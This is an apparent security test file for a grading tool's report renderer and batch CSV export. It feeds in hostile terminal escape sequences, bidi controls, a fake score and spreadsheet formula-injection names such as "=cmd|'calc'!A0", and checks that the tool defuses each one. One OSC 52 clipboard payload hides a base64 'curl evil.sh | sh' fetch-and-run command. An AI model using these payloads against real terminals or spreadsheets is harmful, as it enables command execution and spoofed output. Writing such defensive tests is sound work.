"""What a submission prints or raises cannot drive the terminal of whoever reads the report.

A red team made ``backprop check`` clear the screen, set the window title, write the
clipboard (OSC 52) and print a fake green "score 1 / 1". Every text of a result is now shown
as visible symbols (``␛``, ``⟨U+202E⟩``) and never read as rich markup: the only escape
sequences that reach the terminal are rich's own colours (SGR, ``ESC [ … m``). The batch
CSV defuses formulas and control characters in every cell, file names included.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from rich.console import Console

from cli.report import render
from grader.result import GRADED, CheckResult, GradeResult, TensorResult
from tests.adversarial.attack_helpers import CORRECT_EX2

BACKPROP = str(Path(sys.executable).with_name("backprop"))

CLEAR = "\x1b[2J\x1b[H"
TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
C1_CSI = "\x9b31m"
FAKE_SCORE = "[bold green]score 1 / 1[/bold green]"
#: Everything at once, as one hostile text (also a DEL, a lone CR and two bidi controls).
HOSTILE = (f"{CLEAR}{TITLE}{CLIPBOARD}{C1_CSI}red\x7fdel\rover "
           f"\u202eevil\u202c \u2066iso\u2069 {FAKE_SCORE} :thumbs_up:")

#: Rich's own styling: Select Graphic Rendition only.
SGR = re.compile(r"\x1b\[[0-9;]*m")
#: What must never reach the terminal raw once SGR is removed.
FORBIDDEN = ("\x1b", "\x9b", "\x07", "\x7f", "\r", "\u202e", "\u202c", "\u2066", "\u2069")


def assert_defused(out: str) -> None:
    """Assert that ``out`` sends no control sequence but rich's colours, and shows them."""
    plain = SGR.sub("", out)
    for char in FORBIDDEN:
        assert char not in plain, (repr(char), plain[:3000])
    assert "␛[2J" in plain and "␛]0;pwned␇" in plain and "␛]52;c;" in plain
    assert "⟨U+202E⟩evil" in plain


def hostile_result() -> GradeResult:
    """A result whose every student-controlled text is hostile."""
    return GradeResult(
        exercise="makemore4/ex2", status=GRADED, score=0.0, max_score=1.0,
        message=f"0 of 1 tensors correct; ignored extra keys: {HOSTILE}",
        stdout=f"hello\n{HOSTILE}\nbye\n", runtime_ms=3.0, cases=["public"],
        carry_forward_score=0.0,
        tensors=[
            TensorResult("logits", "wrong", 0.0, 1.0, max_abs_diff=0.5, rel_error=1.0,
                         expected_shape=[32, 27], got_shape=[32, 27], failed_case="public",
                         message=f"backward raised: {HOSTILE}", diagnosis=f"maybe {HOSTILE}",
                         root_cause=True, locally_correct=False, fingerprint=f"fp{TITLE}"),
            TensorResult(f"x{TITLE}", "wrong", 0.0, 1.0, message=f"other {HOSTILE}",
                         diagnosis=HOSTILE),
            TensorResult(f"inh{CLEAR}", "wrong", 0.0, 1.0, locally_correct=True),
        ],
        checks=[CheckResult(f"train{TITLE}", False, 0.0, 1.0, message=HOSTILE)])


def test_render_shows_every_hostile_text_and_sends_none() -> None:
    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=True, color_system="truecolor", width=200)
    render(hostile_result(), console)
    out = buffer.getvalue()
    assert SGR.search(out), "the report is coloured (a real terminal's output)"
    assert_defused(out)
    plain = SGR.sub("", out)
    # The fake score is shown literally, brackets and all, never as green text of its own …
    assert FAKE_SCORE in plain and ":thumbs_up:" in plain
    styled = [m.start() for m in re.finditer(re.escape("score 1 / 1"), plain)]
    assert styled and all(plain[i - len("[bold green]"):i] == "[bold green]" for i in styled)
    # … while the real score line is still there, and still coloured.
    assert "score 0 / 1" in plain and "\x1b[" in out.split("score 0 / 1")[0][-40:]
    assert "␍over" in plain and "␡del" in plain and "⟨U+009B⟩31m" in plain
    assert "dx␛]0;pwned␇" in plain and "[fp␛]0;pwned␇]" in plain


def test_render_without_a_terminal_shows_the_same_text() -> None:
    """Piped into a file (no colours at all), the report shows the sequences, no ESC."""
    console = Console(file=io.StringIO(), force_terminal=False, width=200)
    render(hostile_result(), console)
    out = console.file.getvalue()
    assert "\x1b" not in out
    assert_defused(out)


# -- end to end ---------------------------------------------------------------------------

#: A correct ex2 answer that prints every sequence and returns hostile extra keys.
PRINTING = CORRECT_EX2.replace("def backward(t):", (
    "import sys\n"
    f"HOSTILE = {HOSTILE!r}\n"
    "def backward(t):\n"
    "    print(HOSTILE)\n"
    "    sys.stdout.write(HOSTILE + '\\n')\n"
    "    sys.stderr.write(HOSTILE + '\\n')"), 1).replace(
    'return {"logits": d / t.n}', 'return {"logits": d / t.n, HOSTILE: d}')

#: One that raises with the hostile text (the message and traceback carry it).
RAISING = ("def backward(t):\n"
           f"    raise ValueError({HOSTILE!r})\n")


def check(path: Path) -> subprocess.Popen[bytes]:
    """Start ``backprop check`` as in a colour terminal (bytes: nothing decoded away)."""
    env = {**os.environ, "COLUMNS": "160", "FORCE_COLOR": "1", "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    return subprocess.Popen([BACKPROP, "check", str(path), "-e", "makemore4/ex2"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[int, str, str]]:
    """Run ``backprop check`` on both hostile files side by side."""
    folder = tmp_path_factory.mktemp("hostile")
    procs = {}
    for name, source in (("printing", PRINTING), ("raising", RAISING)):
        (folder / f"{name}.py").write_text(source)
        procs[name] = check(folder / f"{name}.py")
    out = {}
    for name, proc in procs.items():
        stdout, stderr = proc.communicate(timeout=300)
        out[name] = (proc.returncode, stdout.decode(), stderr.decode())
    return out


def test_check_of_a_printing_submission_sends_no_sequence(checked) -> None:
    code, stdout, stderr = checked["printing"]
    assert code == 0, stderr
    assert SGR.search(stdout), "FORCE_COLOR gives a coloured report, as in a terminal"
    assert_defused(stdout)
    plain = SGR.sub("", stdout)
    assert "score 1 / 1" in plain.splitlines()[-1]  # the real score: the answer is right
    assert FAKE_SCORE in plain  # the printed one, literally
    assert "ignored extra keys" in plain
    # stderr has only rich's spinner (its own cursor sequences); nothing the code wrote.
    assert "pwned" not in stderr and "\x07" not in stderr and "\x9b" not in stderr


def test_check_of_a_raising_submission_sends_no_sequence(checked) -> None:
    code, stdout, stderr = checked["raising"]
    assert code == 0, stderr
    assert_defused(stdout)
    assert "ValueError" in stdout
    assert "score 0 / 1" in SGR.sub("", stdout)


# -- batch CSV --------------------------------------------------------------------------------

#: Hostile student names (zip member names) and the first characters of their CSV cell.
NAMES = {
    "=cmd|'calc'!A0": "'=cmd|'calc'!A0",
    "folder/=1+1": "'=1+1",  # the stem is the student: the folder part goes
    "+SUM(A1:A9)": "'+SUM(A1:A9)",
    "-2+3": "'-2+3",
    "@evil": "'@evil",
    "\tTAB": "'\tTAB",
    f"esc{TITLE}": "esc␛]0;pwned␇",
    "rlo\u202egnp": "rlo⟨U+202E⟩gnp",
    "plain": "plain",
}


def test_batch_csv_cells_are_defused(tmp_path: Path) -> None:
    archive = tmp_path / "subs.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for name in NAMES:
            z.writestr(f"{name}.py", CORRECT_EX2)
        z.writestr("raiser.py", "def backward(t):\n    raise ValueError('=1+1' + "
                                f"{(CLEAR + TITLE)!r})\n")
    out = tmp_path / "grades.csv"
    proc = subprocess.run([BACKPROP, "batch", str(archive), "-e", "makemore4/ex2",
                           "-o", str(out)], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    raw = out.read_text()
    assert not any(c in raw for c in ("\x1b", "\x07", "\u202e"))
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO(raw))}
    assert set(rows) == set(NAMES.values()) | {"raiser"}
    for name, cell in NAMES.items():
        assert rows[cell]["score"] == "1.0", (name, rows[cell])
    raiser = rows["raiser"]
    assert raiser["score"] == "0.0" and "␛[2J" in raiser["message"]
    # No cell at all starts as a formula (numbers excepted, written as they are).
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or re.fullmatch(r"-[0-9.e+-]+", value), value
